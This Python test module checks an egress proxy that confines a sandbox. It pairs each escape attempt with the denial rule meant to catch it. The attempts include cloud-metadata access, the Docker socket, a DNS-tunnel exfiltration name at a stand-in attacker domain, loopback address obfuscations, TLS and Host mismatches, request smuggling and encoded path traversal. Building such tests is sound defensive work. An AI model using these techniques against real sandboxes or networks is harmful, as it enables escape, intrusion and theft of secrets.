"""Ways out of a box that must not be there: each with what is tried, and the rule that tells of it."""

from typing import Any, NamedTuple

PROBE = r"""
import json, socket, ssl, subprocess, sys
PROXY = ("127.0.0.1", 3128)


def all_of(sock):
    data = b""
    try:
        while piece := sock.recv(65536):
            data += piece
    except OSError:
        pass
    return data


def tcp(family, host, port, kind=socket.SOCK_STREAM, protocol=0):
    with socket.socket(getattr(socket, family), kind, protocol) as sock:
        sock.settimeout(1)
        sock.connect((host, port))
    return True


def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.3)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(bytes.fromhex("123401000001000000000000076578616d706c65036f72670000010001"), (host, port))
        return bool(sock.recv(512))


def made(family, kind, protocol):
    socket.socket(getattr(socket, family), getattr(socket, kind), protocol).close()
    return True


def echo_request():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        sock.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("1.1.1.1", 0))
    return True


def name(host):
    return bool(socket.getaddrinfo(host, 80))


def unix(path):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(1)
        sock.connect(path.replace("@", "\0"))
    return True


def vsock(cid, port):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as sock:
        sock.settimeout(1)
        sock.connect((cid, port))
    return True


def run(*argv):
    return b"CANARY" in subprocess.run(argv, capture_output=True, timeout=20).stdout


def open_proxy():
    sock = socket.create_connection(PROXY, 5)
    sock.settimeout(10)
    return sock


def said(text):
    with open_proxy() as sock:
        sock.sendall(text.encode("latin-1"))
        return b"CANARY" in all_of(sock)


def connected(target, extra=""):
    sock = open_proxy()
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{extra}\r\n".encode("latin-1"))
    answer = sock.recv(65536)
    if b" 200 " not in answer:
        sock.close()
        return None
    return sock


def connect(target, extra=""):
    sock = connected(target, extra)
    if sock is None:
        return False
    sock.close()
    return True


def inside(target, server, text):
    sock = connected(target)
    if sock is None:
        return False
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with context.wrap_socket(sock, server_hostname=server) as tls:
        tls.sendall(text.encode("latin-1"))
        return b"CANARY" in all_of(tls)


def bare(target, text):
    sock = connected(target)
    if sock is None:
        return False
    with sock:
        sock.sendall(text.encode("latin-1"))
        return b"CANARY" in all_of(sock)


for vector in json.load(sys.stdin):
    try:
        passed, why = bool(globals()[vector["kind"]](*vector["words"])), ""
    except (OSError, ssl.SSLError, subprocess.SubprocessError, AttributeError, ValueError) as error:
        passed, why = False, f"{type(error).__name__}: {error}"
    print(json.dumps({"name": vector["name"], "passed": passed, "why": why}), flush=True)
"""


class Vector(NamedTuple):
    """`rule` is what the denial names; None where the attempt never comes to the proxy."""

    name: str
    kind: str
    words: tuple[Any, ...]
    rule: str | None = None
    host: str | None = None


def vectors(port: int, plain: int, machine: str) -> list[Vector]:
    """`port` and `plain` are the server's, which is granted as `api.test` and `plain.test`."""
    return [*_past_the_proxy(port, machine), *_names_and_addresses(port), *_disguises(port, plain)]


def _past_the_proxy(port: int, machine: str) -> list[Vector]:
    return [
        Vector("a public address", "tcp", ("AF_INET", "1.1.1.1", 443)),
        Vector("the metadata address", "tcp", ("AF_INET", "169.254.169.254", 80)),
        Vector("a private address", "tcp", ("AF_INET", "10.0.0.1", 80)),
        Vector("the engine's bridge", "tcp", ("AF_INET", "172.17.0.1", port)),
        Vector("a home network", "tcp", ("AF_INET", "192.168.0.1", 80)),
        Vector("the host's own address", "tcp", ("AF_INET", machine, port)),
        Vector("the server on the host's loopback", "tcp", ("AF_INET", "127.0.0.1", port)),
        Vector("the host's loopback, IPv6", "tcp", ("AF_INET6", "::1", port)),
        Vector("a public address, IPv6", "tcp", ("AF_INET6", "2606:4700:4700::1111", 443)),
        Vector("link-local, IPv6", "tcp", ("AF_INET6", "fe80::1", 80)),
        Vector("IPv4-mapped", "tcp", ("AF_INET6", "::ffff:1.1.1.1", 443)),
        Vector("SCTP", "tcp", ("AF_INET", "1.1.1.1", 443, 1, 132)),
        Vector("a name server over UDP", "udp", ("8.8.8.8", 53)),
        Vector("the metadata address over UDP", "udp", ("169.254.169.254", 53)),
        Vector("the engine's own name server", "udp", ("127.0.0.11", 53)),
        Vector("a broadcast", "udp", ("255.255.255.255", 53)),
        Vector("a name server over TCP", "tcp", ("AF_INET", "8.8.8.8", 53)),
        Vector("DNS of a host that is granted", "name", ("api.test",)),
        Vector("a DNS tunnel", "name", ("c2VjcmV0.attacker.test",)),
        Vector("a raw socket", "made", ("AF_INET", "SOCK_RAW", 1)),
        Vector("a packet socket", "made", ("AF_PACKET", "SOCK_RAW", 3)),
        Vector("ICMP", "echo_request", ()),
        Vector("the hypervisor", "vsock", (2, 1024)),
        Vector("the engine's socket", "unix", ("/var/run/docker.sock",)),
        Vector("the control socket of the proxy", "unix", ("/rhone-egress/control",)),
        Vector(
            "curl without its proxy",
            "run",
            ("curl", "-sS", "-m", "3", "--noproxy", "*", f"https://api.test:{port}/"),
        ),
    ]


def _names_and_addresses(port: int) -> list[Vector]:
    hosts = {
        "loopback": "127.0.0.1",
        "loopback in decimal": "2130706433",
        "loopback in octal": "0177.0.0.1",
        "loopback in hexadecimal": "0x7f000001",
        "loopback in mixed parts": "0x7f.1",
        "loopback, short": "127.1",
        "nothing": "0.0.0.0",
        "metadata": "169.254.169.254",
        "metadata by name": "metadata.google.internal",
        "localhost": "localhost",
        "a private address": "192.168.1.1",
        "a host that nobody granted": "other.test",
        "a name under the granted one": "x.api.test",
        "the granted name with a dot": "api.test.",
    }
    inward = ("private", "metadata", "mixed", "mapped", "translated", "local", "nowhere")
    return [
        *(
            Vector(f"CONNECT to {name}", "connect", (f"{host}:{port}",), "egress.host", host)
            for name, host in hosts.items()
        ),
        Vector("CONNECT to IPv4-mapped", "connect", (f"[::ffff:127.0.0.1]:{port}",), "egress.malformed"),
        Vector("CONNECT to IPv6", "connect", (f"[::1]:{port}",), "egress.malformed"),
        Vector(
            "metadata over HTTP",
            "said",
            ("GET http://169.254.169.254/latest HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",),
            "egress.host",
            "169.254.169.254",
        ),
        *(
            Vector(
                f"a granted name that leads to {name}",
                "inside",
                (f"{name}.test:{port}", f"{name}.test", _get(f"{name}.test:{port}", "/inward")),
                "egress.address",
                f"{name}.test",
            )
            for name in inward
        ),
        *(
            Vector(
                f"CONNECT to the port {number}", "connect", (f"api.test:{number}",), "egress.host", "api.test"
            )
            for number in (22, 25, 80, 6443)
        ),
        Vector("CONNECT without a port", "connect", ("api.test",), "egress.malformed"),
        Vector("CONNECT with a user", "connect", (f"api.test@127.0.0.1:{port}",), "egress.malformed"),
    ]


def _disguises(port: int, plain: int) -> list[Vector]:
    api, there = f"api.test:{port}", ("api.test", f"api.test:{port}")
    paths = {
        "a path beside": "/v2/x",
        "a path that climbs out": "/v1/../v2",
        "a path that climbs out, encoded": "/v1/%2e%2e/v2",
        "a path that climbs out by an encoded slash": "/v1/..%2fv2",
        "a path encoded twice": "/v1/%252e%252e/v2",
        "an empty segment": "//v1/x",
        "a parameter in a climbing segment": "/v1/..;/v2",
    }
    return [
        Vector("another TLS name", "inside", (api, "other.test", _get(api, "/v1/sni")), "egress.mismatch"),
        Vector("no TLS name", "inside", (api, None, _get(api, "/v1/sni")), "egress.mismatch"),
        Vector("another Host", "inside", (api, there[0], _get("other.test", "/v1/host")), "egress.mismatch"),
        Vector(
            "two Hosts",
            "inside",
            (api, there[0], f"GET /v1/x HTTP/1.1\r\nHost: {api}\r\nHost: other.test\r\n\r\n"),
            "egress.malformed",
        ),
        Vector(
            "a whole address inside",
            "inside",
            (api, there[0], f"GET https://other.test/ HTTP/1.1\r\nHost: {api}\r\n\r\n"),
            "egress.malformed",
        ),
        Vector("no TLS after CONNECT", "bare", (api, _get(api, "/v1/bare")), "egress.malformed"),
        Vector("SSH after CONNECT", "bare", (api, "SSH-2.0-OpenSSH_9.2\r\n"), "egress.malformed"),
        Vector(
            "a tunnel with another name",
            "inside",
            (f"tunnel.test:{port}", "api.test", "x"),
            "egress.mismatch",
        ),
        Vector(
            "CONNECT with another Host",
            "said",
            (f"CONNECT {api} HTTP/1.1\r\nHost: other.test:443\r\n\r\n",),
            "egress.mismatch",
        ),
        Vector(
            "a plain request with another Host",
            "said",
            (f"GET http://plain.test:{plain}/x HTTP/1.1\r\nHost: other.test\r\n\r\n",),
            "egress.mismatch",
        ),
        Vector(
            "a plain request to a host of https",
            "said",
            (f"GET http://api.test:{port}/v1/x HTTP/1.1\r\nHost: {api}\r\n\r\n",),
            "egress.host",
            "api.test",
        ),
        Vector("a request for the proxy itself", "said", (_get(api, "/v1/x"),), "egress.malformed"),
        Vector(
            "another scheme",
            "said",
            (f"GET ftp://{api}/ HTTP/1.1\r\nHost: {api}\r\n\r\n",),
            "egress.malformed",
        ),
        Vector(
            "a method beside",
            "inside",
            (*there[::-1], _get(api, "/v1/x", "POST")),
            "egress.method",
            "api.test",
        ),
        Vector("TRACE", "inside", (*there[::-1], _get(api, "/v1/t", "TRACE")), "egress.method", "api.test"),
        Vector(
            "two lengths",
            "inside",
            (
                *there[::-1],
                f"GET /v1/x HTTP/1.1\r\nHost: {api}\r\nContent-Length: 1\r\nContent-Length: 9\r\n\r\n",
            ),
            "egress.malformed",
        ),
        Vector(
            "an unknown transfer coding",
            "inside",
            (*there[::-1], f"GET /v1/x HTTP/1.1\r\nHost: {api}\r\nTransfer-Encoding: gzip\r\n\r\n"),
            "egress.malformed",
        ),
        Vector(
            "no method is granted",
            "inside",
            (f"empty.test:{port}", "empty.test", _get(f"empty.test:{port}", "/")),
            "egress.method",
            "empty.test",
        ),
        Vector(
            "a redirect inward",
            "run",
            ("curl", "-sSLk", "-m", "10", f"https://api.test:{port}/away"),
            "egress.host",
            "169.254.169.254",
        ),
        *(
            Vector(name, "inside", (*there[::-1], _get(api, path)), "egress.path", "api.test")
            for name, path in paths.items()
        ),
    ]


def services(port: int, machine: str) -> list[Vector]:
    """What else runs on the machine of a box, by each name under which it could be asked for."""
    names = ("localhost", "127.0.0.1", machine, "172.17.0.1", "host.docker.internal")
    asked = [Vector(f"{name} past the proxy", "tcp", ("AF_INET", name, port)) for name in names]
    asked += [
        Vector(f"{name} by CONNECT", "connect", (f"{name}:{port}",), "egress.host", name) for name in names
    ]
    plain = [
        Vector(
            f"{name} plainly",
            "said",
            (_get(f"{name}:{port}", f"http://{name}:{port}/"),),
            "egress.host",
            name,
        )
        for name in names
    ]
    return asked + plain


def _get(host: str, path: str, method: str = "GET") -> str:
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
